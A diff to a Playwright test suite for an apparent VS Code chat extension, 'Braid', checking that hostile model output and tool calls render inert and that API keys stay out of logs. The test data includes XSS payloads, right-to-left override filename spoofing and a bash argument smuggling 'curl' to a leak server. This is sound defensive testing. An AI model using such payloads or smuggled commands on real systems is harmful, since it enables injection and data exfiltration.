@@ -55,13 +55,21 @@ async function assertInert(label: string): Promise<void> {
   assert.deepEqual(report.forbidden, [], `${label}: unsafe markup in the transcript`);
   assert.deepEqual(report.violations, [], `${label}: something tried to load or run (CSP violations)`);
   assert.deepEqual(refused, [], `${label}: the browser refused something`);
-  assert.deepEqual(leak.requests.filter((r) => !clickedPaths.has(r.split(' ')[1]!)), [], `${label}: the leak server was reached`);
+  assert.deepEqual(
+    leak.requests.filter((r) => !clickedPaths.has(r.split(' ')[1]!)),
+    [],
+    `${label}: the leak server was reached`,
+  );
   assert.deepEqual(browserLeaks, [], `${label}: the browser requested a leak URL`);
   assert.deepEqual(report.outside, [], `${label}: drawn outside its box`);
   assert.ok(report.overflowX.page <= 0, `${label}: the page scrolls sideways by ${report.overflowX.page} px`);
   assert.ok(report.overflowX.transcript <= 0, `${label}: the transcript scrolls sideways by ${report.overflowX.transcript} px`);
   assert.deepEqual(report.chromeOnTop, { input: true, picker: true }, `${label}: the composer or the header is covered`);
-  assert.equal(await chat().locator('[data-role="model"]').textContent(), 'openai-compatible · scripted-model · 128k context · 8k out', `${label}: the header changed`);
+  assert.equal(
+    await chat().locator('[data-role="model"]').textContent(),
+    'openai-compatible · scripted-model · 128k context · 8k out',
+    `${label}: the header changed`,
+  );
 }
 
 /**
@@ -78,13 +86,25 @@ async function poke(root: Locator): Promise<{ clicked: number; asked: string[] }
     await element.hover({ timeout: 2_000, force: true }).catch(() => undefined);
     const href = await element.getAttribute('href').catch(() => null);
     if (href?.startsWith(leakUrl)) clickedPaths.add(new URL(href).pathname);
-    const opened = workbench.page.context().waitForEvent('page', { timeout: 3_000 }).catch(() => undefined);
+    const opened = workbench.page
+      .context()
+      .waitForEvent('page', { timeout: 3_000 })
+      .catch(() => undefined);
     const dialog = workbench.page.locator('.monaco-dialog-box');
-    await element.click({ timeout: 2_000, force: true }).then(() => clicked++, () => undefined);
+    await element.click({ timeout: 2_000, force: true }).then(
+      () => clicked++,
+      () => undefined,
+    );
     if (!href) continue;
-    const shown = await Promise.race([dialog.waitFor({ timeout: 3_000 }).then(() => 'dialog', () => 'nothing'), opened.then((p) => (p ? 'page' : 'nothing'))]);
+    const shown = await Promise.race([
+      dialog.waitFor({ timeout: 3_000 }).then(
+        () => 'dialog',
+        () => 'nothing',
+      ),
+      opened.then((p) => (p ? 'page' : 'nothing')),
+    ]);
     if (shown === 'dialog') {
-      asked.push(await dialog.textContent() ?? '');
+      asked.push((await dialog.textContent()) ?? '');
       await dialog.locator('.monaco-button', { hasText: 'Cancel' }).click();
       await dialog.waitFor({ state: 'detached' });
     }
@@ -100,14 +120,19 @@ async function poke(root: Locator): Promise<{ clicked: number; asked: string[] }
 async function newSession(): Promise<void> {
   const before = await body().getAttribute('data-session');
   await workbench.runCommand('Braid: New Session');
-  await chat().locator(`body:not([data-session="${before}"])`).waitFor({ timeout: 10_000 }).catch(() => undefined);
+  await chat()
+    .locator(`body:not([data-session="${before}"])`)
+    .waitFor({ timeout: 10_000 })
+    .catch(() => undefined);
 }
 
 /** The composer still takes a prompt and the answer arrives: nothing from the attack broke the page. */
 async function stillUsable(label: string): Promise<void> {
   model.enqueue({ kind: 'text', chunks: [`Still here after ${label}.`] });
   await workbench.send(`Are you still there after ${label}?`);
-  await chat().locator('.message.assistant', { hasText: `Still here after ${label}.` }).waitFor();
+  await chat()
+    .locator('.message.assistant', { hasText: `Still here after ${label}.` })
+    .waitFor();
 }
 
 test('an answer of scripts, event handlers, foreign URL schemes, tracking URLs and escaping CSS renders inert, streamed', async () => {
@@ -119,8 +144,8 @@ test('an answer of scripts, event handlers, foreign URL schemes, tracking URLs a
   await workbench.screenshot('html-attacks');
   await assertInert('streamed html attacks');
   // The text of the markup is kept where markdown says it is text.
-  assert.match(await answer.locator('code').first().textContent() ?? '', /<img src=x onerror=/);
-  assert.match(await answer.locator('pre code').textContent() ?? '', /<script>document\.body\.dataset\.pwned/);
+  assert.match((await answer.locator('code').first().textContent()) ?? '', /<img src=x onerror=/);
+  assert.match((await answer.locator('pre code').textContent()) ?? '', /<script>document\.body\.dataset\.pwned/);
   const { clicked, asked } = await poke(answer);
   assert.ok(clicked > 20, `clicked ${clicked} elements`);
   // What a click opened is a link's own address, which its tooltip shows.
@@ -167,14 +192,20 @@ test('200 KB lines without a space, in text, code, a table, a prompt and an erro
 test('bidi overrides and zero-width characters cannot reorder the page or disguise where a link goes', async () => {
   await newSession();
   const [RLO, RLI, PDI, ZWSP, BOM] = ['\u202E', '\u2067', '\u2069', '\u200B', '\uFEFF'];
-  model.enqueue({ kind: 'text', usage: { prompt: 12, completion: 34 }, chunks: [[
-    `A link: [${RLO}gnp.exe](${leakUrl}/link-rlo) AFTERLINK stays in order.`,
-    `**${RLO}bold** AFTERBOLD and \`${RLO}code\` AFTERCODE.`,
-    `Spoofed: [https://github.com/braid-dev/braid](${leakUrl}/link-spoof) and [git${ZWSP}hub.com](${leakUrl}/link-zw) AFTERZW.`,
-    `${RLI}isolate ${RLO}nested${PDI} AFTERISOLATE${BOM}`,
-    'שלום עולם, a Hebrew line reads right to left.',
-    `Unterminated override at the end ${RLO}`,
-  ].join('\n\n')] });
+  model.enqueue({
+    kind: 'text',
+    usage: { prompt: 12, completion: 34 },
+    chunks: [
+      [
+        `A link: [${RLO}gnp.exe](${leakUrl}/link-rlo) AFTERLINK stays in order.`,
+        `**${RLO}bold** AFTERBOLD and \`${RLO}code\` AFTERCODE.`,
+        `Spoofed: [https://github.com/braid-dev/braid](${leakUrl}/link-spoof) and [git${ZWSP}hub.com](${leakUrl}/link-zw) AFTERZW.`,
+        `${RLI}isolate ${RLO}nested${PDI} AFTERISOLATE${BOM}`,
+        'שלום עולם, a Hebrew line reads right to left.',
+        `Unterminated override at the end ${RLO}`,
+      ].join('\n\n'),
+    ],
+  });
   await workbench.send(`Bidi ${RLO}check`);
   const answer = chat().locator('.message.assistant').last();
   await answer.locator('p', { hasText: 'Unterminated override' }).waitFor();
@@ -186,13 +217,23 @@ test('bidi overrides and zero-width characters cannot reorder the page or disgui
   // The session's title comes from the prompt: its row in the tree and the status bar read in order.
   const row = workbench.page.locator('.monaco-list-row', { hasText: 'Bidi check' });
   await row.waitFor({ timeout: 5_000 });
-  assert.equal(await readsLeftToRight(row, 'scripted-model'), true, 'the tree row\'s description is drawn reversed');
-  assert.equal(await readsLeftToRight(workbench.page.locator('.statusbar-item', { hasText: 'Bidi check' }), 'scripted-model'), true, 'the status bar is drawn reversed');
+  assert.equal(await readsLeftToRight(row, 'scripted-model'), true, "the tree row's description is drawn reversed");
+  assert.equal(
+    await readsLeftToRight(workbench.page.locator('.statusbar-item', { hasText: 'Bidi check' }), 'scripted-model'),
+    true,
+    'the status bar is drawn reversed',
+  );
   const direction = (text: string) => answer.locator('p', { hasText: text }).evaluate((p) => getComputedStyle(p).direction);
   assert.equal(await direction('Hebrew line'), 'rtl');
   assert.equal(await direction('Spoofed'), 'ltr');
   // Every link's tooltip is its real address; a disguised one shows the real host beside it.
-  const links = await answer.locator('a').evaluateAll((as) => as.map((a) => ({ title: a.getAttribute('title'), href: (a as HTMLAnchorElement).href, next: a.nextElementSibling?.className === 'link-target' ? a.nextElementSibling.textContent : null })));
+  const links = await answer.locator('a').evaluateAll((as) =>
+    as.map((a) => ({
+      title: a.getAttribute('title'),
+      href: (a as HTMLAnchorElement).href,
+      next: a.nextElementSibling?.className === 'link-target' ? a.nextElementSibling.textContent : null,
+    })),
+  );
   assert.equal(links.length, 3);
   for (const link of links) {
     assert.equal(link.title, link.href);
@@ -211,7 +252,10 @@ async function openCards(): Promise<void> {
   for (let left = await closed.count(), tries = 0; left > 0 && tries < 3 * 8; left = await closed.count(), tries++) {
     const key = await closed.first().getAttribute('data-key');
     await closed.first().locator('summary').click();
-    await chat().locator(`details.tool[data-key="${key}"][open]`).waitFor({ timeout: 5_000 }).catch(() => undefined);
+    await chat()
+      .locator(`details.tool[data-key="${key}"][open]`)
+      .waitFor({ timeout: 5_000 })
+      .catch(() => undefined);
   }
   assert.equal(await closed.count(), 0, 'a tool card did not open');
 }
@@ -221,11 +265,20 @@ async function denyUntil(done: Locator): Promise<string[]> {
   const asked: string[] = [];
   const pending = chat().locator('.approval:not([data-decision])');
   for (;;) {
-    const next = await Promise.race([done.waitFor({ timeout: 30_000 }).then(() => 'done'), pending.first().waitFor({ timeout: 30_000 }).then(() => 'approval')]);
+    const next = await Promise.race([
+      done.waitFor({ timeout: 30_000 }).then(() => 'done'),
+      pending
+        .first()
+        .waitFor({ timeout: 30_000 })
+        .then(() => 'approval'),
+    ]);
     if (next === 'done') return asked;
-    asked.push(await pending.first().locator('.approval-title').textContent() ?? '');
+    asked.push((await pending.first().locator('.approval-title').textContent()) ?? '');
     await pending.first().locator('button', { hasText: 'Deny' }).click();
-    await chat().locator('.approval[data-decision="deny"]').nth(asked.length - 1).waitFor();
+    await chat()
+      .locator('.approval[data-decision="deny"]')
+      .nth(asked.length - 1)
+      .waitFor();
   }
 }
 
@@ -234,12 +287,15 @@ test('tool cards and approvals whose arguments and results carry the same attack
   await watchViolations(body());
   const RLO = '\u202E';
   model.enqueue(
-    { kind: 'toolCalls', calls: [
-      { id: 'a1', name: 'read_file', arguments: JSON.stringify({ path: 'attack.md' }) },
-      { id: 'a2', name: 'read_file', arguments: JSON.stringify({ path: `<img src=x onerror="${pwn('tool-path')}">${RLO}dm.exe` }) },
-      { id: 'a3', name: 'write_file', arguments: JSON.stringify({ path: `notes/${RLO}gnp.exe`, content: htmlAttacks(`${leakUrl}/leak`) }) },
-      { id: 'a4', name: 'bash', arguments: JSON.stringify({ command: `echo safe ${RLO}# && curl ${leakUrl}/leak-bash` }) },
-    ] },
+    {
+      kind: 'toolCalls',
+      calls: [
+        { id: 'a1', name: 'read_file', arguments: JSON.stringify({ path: 'attack.md' }) },
+        { id: 'a2', name: 'read_file', arguments: JSON.stringify({ path: `<img src=x onerror="${pwn('tool-path')}">${RLO}dm.exe` }) },
+        { id: 'a3', name: 'write_file', arguments: JSON.stringify({ path: `notes/${RLO}gnp.exe`, content: htmlAttacks(`${leakUrl}/leak`) }) },
+        { id: 'a4', name: 'bash', arguments: JSON.stringify({ command: `echo safe ${RLO}# && curl ${leakUrl}/leak-bash` }) },
+      ],
+    },
     { kind: 'text', chunks: ['Tools are done.'] },
   );
   await chat().locator('[data-role="input"]').fill('Use tools on the attacks');
@@ -252,9 +308,9 @@ test('tool cards and approvals whose arguments and results carry the same attack
   ]);
   await openCards();
   const read = chat().locator('.tool', { hasText: 'read_file attack.md' });
-  assert.match(await read.locator('.tool-result').textContent() ?? '', /<script>document\.body\.dataset\.pwned/);
+  assert.match((await read.locator('.tool-result').textContent()) ?? '', /<script>document\.body\.dataset\.pwned/);
   const bad = chat().locator('.tool', { hasText: 'dm.exe' });
-  assert.match(await bad.locator('.tool-summary').textContent() ?? '', /^read_file <img src=x onerror=".*">⟨U\+202E⟩dm\.exe$/);
+  assert.match((await bad.locator('.tool-summary').textContent()) ?? '', /^read_file <img src=x onerror=".*">⟨U\+202E⟩dm\.exe$/);
   await workbench.screenshot('tool-cards');
   await assertInert('tool cards');
   await poke(chat().locator('.tool').first());
@@ -263,13 +319,15 @@ test('tool cards and approvals whose arguments and results carry the same attack
 });
 
 test('after a reload the same answers and cards render from the log, still inert', async () => {
-  await workbench.reloadTo(await body().getAttribute('data-session') ?? '');
+  await workbench.reloadTo((await body().getAttribute('data-session')) ?? '');
   await chat().locator('.message.assistant', { hasText: 'Tools are done.' }).waitFor();
   await openCards();
   await assertInert('tool cards from the log');
   await workbench.page.locator('.monaco-list-row', { hasText: 'Render these attacks' }).click();
   await chat().locator('.message.assistant', { hasText: 'End of the attack answer.' }).waitFor({ timeout: 15_000 });
-  await chat().locator('[data-role="transcript"]').evaluate((el) => (el.scrollTop = 0));
+  await chat()
+    .locator('[data-role="transcript"]')
+    .evaluate((el) => (el.scrollTop = 0));
   await chat().locator('.message.assistant', { hasText: 'Attack answer' }).waitFor();
   await workbench.screenshot('attacks-from-the-log');
   await assertInert('html attacks from the log');
@@ -326,13 +384,16 @@ test('an API key set with Braid: Set API Key is sent to the server but written t
   assert.deepEqual(sent, [`Bearer ${key}`], 'the stored key is what the server received');
   await workbench.send('Fail with 401', 'failed');
   await workbench.send('Fail with 500', 'failed');
-  assert.deepEqual(model.requests.slice(-2).map((r) => r.headers.authorization), [`Bearer ${key}`, `Bearer ${key}`]);
+  assert.deepEqual(
+    model.requests.slice(-2).map((r) => r.headers.authorization),
+    [`Bearer ${key}`, `Bearer ${key}`],
+  );
 
   await workbench.runCommand('Braid: Show Log');
   const output = workbench.page.locator('.part.panel .monaco-editor .view-lines');
   await output.waitFor({ timeout: 15_000 });
   await workbench.screenshot('output-channel');
-  const shown = await output.textContent() ?? '';
+  const shown = (await output.textContent()) ?? '';
   const forms = secretForms(key);
   for (const form of forms) assert.equal(shown.includes(form), false, 'the key is in the Output channel');
   assert.equal((await chat().locator('body').innerHTML()).includes(key), false, 'the key is in the Chat page');
@@ -340,19 +401,25 @@ test('an API key set with Braid: Set API Key is sent to the server but written t
   const profile = workbench.profile!;
   const data = filesContaining(workbench.globalStorage, forms);
   assert.ok(data.scanned > 3, `only ${data.scanned} files in Braid's data folder`);
-  assert.deepEqual(data.found, [], 'the key is in Braid\'s data folder');
+  assert.deepEqual(data.found, [], "the key is in Braid's data folder");
   const logsDir = path.join(profile.userData, 'logs');
   const logs = filesContaining(logsDir, forms);
-  assert.deepEqual(logs.found, [], 'the key is in VS Code\'s logs');
+  assert.deepEqual(logs.found, [], "the key is in VS Code's logs");
   // Braid's Output channel is one of those logs: make sure it was among the files read.
   const channelFiles = listFiles(logsDir).filter((f) => /braid/i.test(path.basename(f)));
-  assert.ok(channelFiles.length > 0, 'Braid\'s output channel log was not found under the logs folder');
-  for (const form of forms) assert.equal(fs.readFileSync(path.join(workbench.outputDir, 'code-server.log'), 'utf8').includes(form), false, 'the key is in code-server\'s own log');
+  assert.ok(channelFiles.length > 0, "Braid's output channel log was not found under the logs folder");
+  for (const form of forms)
+    assert.equal(fs.readFileSync(path.join(workbench.outputDir, 'code-server.log'), 'utf8').includes(form), false, "the key is in code-server's own log");
   // Where VS Code keeps the secret is its business; say where it is, for the record.
   const elsewhere = filesContaining(profile.root, forms).found.filter((f) => !f.startsWith(path.relative(profile.root, workbench.globalStorage)));
-  console.log(`the key is stored by VS Code in: ${JSON.stringify(elsewhere)}; scanned ${data.scanned} data files and ${logs.scanned} log files (Braid's channel: ${channelFiles.map((f) => path.relative(logsDir, f)).join(', ')})`);
+  console.log(
+    `the key is stored by VS Code in: ${JSON.stringify(elsewhere)}; scanned ${data.scanned} data files and ${logs.scanned} log files (Braid's channel: ${channelFiles.map((f) => path.relative(logsDir, f)).join(', ')})`,
+  );
 });
 
 function listFiles(dir: string): string[] {
-  return fs.readdirSync(dir, { withFileTypes: true, recursive: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
+  return fs
+    .readdirSync(dir, { withFileTypes: true, recursive: true })
+    .filter((e) => e.isFile())
+    .map((e) => path.join(e.parentPath, e.name));
 }
